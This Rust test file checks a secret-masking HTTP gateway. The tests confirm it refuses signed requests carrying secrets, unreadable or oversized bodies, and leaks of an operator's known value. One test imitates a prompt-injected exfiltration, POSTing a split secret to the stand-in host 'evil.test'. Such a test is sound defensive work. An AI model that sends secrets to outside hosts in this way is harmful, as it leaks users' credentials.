//! What must not pass where secrets are replaced or known: signed, unreadable, too large, astray.

use bytes::Bytes;
use http::HeaderValue;
use http_body_util::BodyExt as _;
use weir_gateway::config::inspect::{KnownValue, Mode};
use weir_tests::client::{self, empty, full};
use weir_tests::gateway::{DST, NAME, PLAIN, TestGateway};
use weir_tests::origin::body::Frames;
use weir_tests::origin::raw::Step;
use weir_tests::origin::{Origin, routes};
use weir_tests::pattern;

use crate::masking::{ask, ask_with, masks, nothing_recorded, prompt, route, token};
use crate::wire::{https_origin_with, plain_origin, rest_text, say};

const KNOWN: &str = "correct horse battery staple 77";

/// The operator's value, which may go nowhere.
fn knows(directory: &tempfile::TempDir) -> KnownValue {
    let file = directory.path().join("known");
    std::fs::write(&file, KNOWN).unwrap();
    KnownValue { name: "the-operators".into(), file, hosts: Vec::new() }
}

async fn masking() -> (TestGateway, Origin) {
    https_origin_with(&["h2", "http/1.1"], masks).await
}

#[tokio::test]
async fn a_signed_request_with_a_secret_is_refused_and_one_without_passes() {
    let (gateway, origin) = masking().await;
    let mut connection = gateway.https(&["http/1.1"]).await.unwrap();
    let aws = "AWS4-HMAC-SHA256 Credential=A/20260101/r/bedrock/aws4_request, Signature=00";
    for (name, value) in [
        ("authorization", aws),
        ("signature-input", "sig1=(\"@method\")"),
        ("x-hub-signature-256", "sha256=00"),
    ] {
        let fields = [("content-type", "application/json"), (name, value)];
        let path = "/v1/chat/completions";
        let before = origin.seen().requests();
        let refused = ask_with(&mut connection, path, &fields, prompt(&token(), false)).await;
        let text = String::from_utf8(refused.body().to_vec()).unwrap();
        assert_eq!(refused.status(), 403, "{name}: {text}");
        assert!(text.contains("signed") && text.contains("rule: inspect.signed"), "{text}");
        assert_eq!(origin.seen().requests(), before, "{name}: nothing left");
        let passed = ask_with(&mut connection, path, &fields, prompt("hello", false)).await;
        assert_eq!(passed.status(), 200, "{name}");
        let head = origin.seen().heads().pop().unwrap();
        assert_eq!(head.headers[name], value);
    }
    drop(connection);
    let recorded = gateway.shutdown().await;
    nothing_recorded(&recorded, &[&token()]);
    let refused: Vec<_> =
        recorded.exchanges.iter().filter(|row| row.text("outcome") == "signed_secret").collect();
    assert_eq!(refused.len(), 3);
    for row in refused {
        assert_eq!((row.text("decision"), row.text("fault")), ("deny", "policy"));
        assert!(!recorded.body(row, "request").is_empty(), "what was refused is recorded, masked");
    }
}

#[tokio::test]
async fn what_cannot_be_read_is_refused_where_secrets_are_replaced() {
    let (gateway, origin) = masking().await;
    let mut connection = gateway.https(&["http/1.1"]).await.unwrap();
    let broken = routes::gzip_encode(b"hello")[..20].to_vec();
    for (encoding, body) in
        [("x-unknown", b"hello".to_vec()), ("gzip", b"this is no gzip".to_vec()), ("gzip", broken)]
    {
        let fields = [("content-encoding", encoding), ("content-type", "text/plain")];
        let refused = ask_with(&mut connection, "/sink", &fields, body).await;
        assert_eq!(refused.status(), 415, "{encoding}: {:?}", refused.body());
    }
    drop(connection);
    // nobody has to send what is too large anyway
    let mut client = gateway.tls(DST, NAME, gateway.trusting(&["http/1.1"])).await.unwrap();
    let announced = format!(
        "POST /sink HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {}\r\n\
         Expect: 100-continue\r\n\r\n",
        (1 << 20) + 1
    );
    say(&mut client, &announced).await;
    let got = rest_text(&mut client).await;
    assert!(got.starts_with("HTTP/1.1 413") && got.contains("inspect.max_body"), "{got}");
    // nor may it turn out so
    let (piece, mut connection) =
        (Bytes::from(vec![b'a'; 700_000]), gateway.https(&["h2"]).await.unwrap());
    let body = Frames::new([piece.clone(), piece], None).boxed();
    let request = client::request(true, "POST", NAME, "/sink", body).unwrap();
    let refused = client::collect(connection.send(request).await.unwrap(), 1 << 20).await.unwrap();
    assert_eq!(refused.status(), 413);
    assert_eq!(origin.seen().requests(), 0);
    drop((client, connection));
    let recorded = gateway.shutdown().await;
    let outcomes: Vec<_> = recorded.exchanges.iter().map(|row| row.text("outcome")).collect();
    let (unreadable, large) = ("body_unreadable", "body_too_large");
    assert_eq!(outcomes, [unreadable, unreadable, unreadable, large, large]);
}

#[tokio::test]
async fn a_known_value_is_refused_on_its_way_to_anybody_else() {
    let directory = tempfile::tempdir().unwrap();
    let value = knows(&directory);
    let (gateway, origin) = plain_origin(|config| config.inspect.known.push(value)).await;
    let encoded = KNOWN.replace(' ', "%20");
    let json = format!("{{\"a\":\"x {KNOWN} y\"}}");
    for (path, field, body) in [
        ("/sink", "", json.as_str()),
        ("/sink", KNOWN, ""),
        (&*format!("/sink?q={encoded}"), "", ""),
    ] {
        let mut client = gateway.tcp(PLAIN).await.unwrap();
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: o.test\r\nX-Field: {field}\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        say(&mut client, &request).await;
        let got = rest_text(&mut client).await;
        assert!(got.starts_with("HTTP/1.1 403"), "{path} {field} {body}: {got}");
        assert!(!got.contains(KNOWN), "{got}");
    }
    let heads = origin.seen().heads();
    assert!(heads.iter().all(|head| !format!("{head:?}").contains(KNOWN)), "{heads:?}");
    let recorded = gateway.shutdown().await;
    nothing_recorded(&recorded, &[KNOWN]);
    assert_eq!(recorded.exchanges.len(), 3);
    for row in &recorded.exchanges {
        assert_eq!((row.text("outcome"), row.number("status")), ("secret_refused", 403));
    }
}

#[tokio::test]
async fn a_vaulted_secret_does_not_leave_for_another_host() {
    let origin = Origin::plain().await;
    let ca = weir_tests::ca::TestCa::new("weir test CA");
    let model = Origin::start(&ca, &[NAME]).await;
    let origins = [(DST, model.addr()), (PLAIN, origin.addr())];
    let gateway = TestGateway::start(ca, masks, &origins);
    let mut connection = gateway.https(&["h2"]).await.unwrap();
    let secret = token();
    assert_eq!(ask(&mut connection, prompt(&secret, false)).await.status(), 200);
    // what a prompt injection would make of the restored secret
    for split in [1, 10, 39] {
        let (first, second) = secret.split_at(split);
        let pieces = [format!("key={first}"), format!("{second}&x=1")].map(Bytes::from);
        let mut plain = gateway.http().await.unwrap();
        let body = Frames::new(pieces, None).boxed();
        let request = client::request(false, "POST", "evil.test", "/sink", body).unwrap();
        let got = client::collect(plain.send(request).await.unwrap(), 1 << 20).await.unwrap();
        assert_eq!(got.status(), 403, "{split}: {:?}", got.body());
    }
    drop(connection);
    let recorded = gateway.shutdown().await;
    nothing_recorded(&recorded, &[&secret]);
    let refused = recorded.exchanges.iter().filter(|row| row.text("outcome") == "secret_refused");
    assert_eq!(refused.count(), 3);
    // its head may have gone, its beginning never
    assert!(
        origin
            .seen()
            .bodies()
            .iter()
            .all(|body| !body.windows(8).any(|w| w == &secret.as_bytes()[..8]))
    );
}

#[tokio::test]
async fn ranges_are_not_asked_for_and_parts_are_not_passed() {
    let answer = "HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-1/9\r\n\
                  Content-Type: text/plain\r\nContent-Length: 2\r\n\r\nab";
    let (gateway, raw) =
        crate::wire::raw_tls_origin_with(vec![Step::ReadHead, Step::text(answer)], masks).await;
    let mut connection = gateway.https(&[]).await.unwrap();
    let mut request = client::request(false, "GET", NAME, "/part", empty()).unwrap();
    for (name, value) in
        [("range", "bytes=0-1"), ("if-range", "\"a\""), ("accept-encoding", "br, sdch, *")]
    {
        request.headers_mut().insert(name, HeaderValue::from_static(value));
    }
    let got = client::collect(connection.send(request).await.unwrap(), 1 << 20).await.unwrap();
    assert_eq!(got.status(), 502, "{:?}", got.body());
    let seen = String::from_utf8(raw.received()[0].clone()).unwrap().to_ascii_lowercase();
    assert!(!seen.contains("range:"), "{seen}");
    assert!(seen.contains("accept-encoding: br\r\n"), "{seen}");
    drop(connection);
    let recorded = gateway.shutdown().await;
    assert_eq!(recorded.exchange().text("outcome"), "answer_refused");
}

#[tokio::test]
async fn a_changed_answer_has_a_weak_tag_its_own_length_and_no_digest() {
    let secret = token();
    let head = |body: &str, more: &str| {
        format!(
            "HTTP/1.1 200 OK\r\nETag: \"v1\"\r\nAccept-Ranges: bytes\r\nDigest: sha-256=x\r\n\
             Content-Type: text/plain\r\n{more}Content-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let body = format!("a secret: {secret}.");
    let (gateway, _raw) =
        crate::wire::raw_tls_origin_with(vec![Step::ReadHead, Step::text(&head(&body, ""))], masks)
            .await;
    let mut connection = gateway.https(&[]).await.unwrap();
    let got = connection.get(NAME, "/tagged").await.unwrap();
    let text = String::from_utf8(got.body().to_vec()).unwrap();
    assert!(text.starts_with("a secret: ") && !text.contains(&secret), "{text}");
    assert_eq!(got.headers()["etag"], "W/\"v1\"");
    assert_eq!(got.headers()["content-length"], text.len().to_string().as_str());
    for absent in ["digest", "accept-ranges"] {
        assert!(!got.headers().contains_key(absent), "{absent}");
    }
    drop(connection);
    let recorded = gateway.shutdown().await;
    nothing_recorded(&recorded, &[&secret]);
    let row = recorded.exchange();
    assert_eq!(row.number("resp_bytes"), body.len() as u64, "as upstream sent it");
}

#[tokio::test]
async fn bodiless_answers_stay_bodiless() {
    let (gateway, _origin) = masking().await;
    for alpn in ["http/1.1", "h2"] {
        let mut connection = gateway.https(&[alpn]).await.unwrap();
        for (method, path, status) in
            [("HEAD", "/", 200), ("GET", "/status/204", 204), ("GET", "/status/304", 304)]
        {
            let response = connection.request(method, NAME, path, empty()).await.unwrap();
            assert_eq!(response.status().as_u16(), status);
            assert!(response.into_body().collect().await.unwrap().to_bytes().is_empty());
        }
    }
    let recorded = gateway.shutdown().await;
    assert!(recorded.exchanges.iter().all(|row| row.text("outcome") == "ok"));
    assert_eq!(recorded.exchanges.len(), 6);
}

#[tokio::test]
async fn large_bodies_pass_unchanged_where_nothing_is_replaced() {
    let directory = tempfile::tempdir().unwrap();
    let value = knows(&directory);
    let (gateway, _origin) = https_origin_with(&["h2", "http/1.1"], |config| {
        config.inspect.known.push(value);
    })
    .await;
    for alpn in ["http/1.1", "h2"] {
        let mut connection = gateway.https(&[alpn]).await.unwrap();
        let size: u64 = 8 << 20;
        let got = connection.post(NAME, "/sink", full(pattern::bytes(8 << 20))).await.unwrap();
        let got: serde_json::Value = serde_json::from_slice(got.body()).unwrap();
        assert_eq!(got["bytes"], size);
        assert_eq!(got["sha256"], pattern::sha256(size));
    }
    let recorded = gateway.shutdown().await;
    for row in &recorded.exchanges {
        assert_eq!(row.text("req_sha256"), pattern::sha256(8 << 20));
        assert_eq!(row.text("req_body"), "truncated");
    }
}

#[tokio::test]
async fn block_refuses_and_says_which_rule() {
    let (gateway, origin) = https_origin_with(&["http/1.1"], |config| {
        config.inspect.routes.insert(0, route(Mode::Block, Mode::Detect));
    })
    .await;
    let mut connection = gateway.https(&["http/1.1"]).await.unwrap();
    let refused = ask(&mut connection, prompt(&token(), false)).await;
    let text = String::from_utf8(refused.body().to_vec()).unwrap();
    assert_eq!(refused.status(), 403);
    assert!(text.contains("rule: inspect.secret") && !text.contains(&token()), "{text}");
    assert_eq!(ask(&mut connection, prompt("hello", false)).await.status(), 200);
    assert_eq!(origin.seen().requests(), 1);
    drop(connection);
    let recorded = gateway.shutdown().await;
    nothing_recorded(&recorded, &[&token()]);
    assert_eq!(recorded.exchanges[0].text("outcome"), "secret_refused");
}
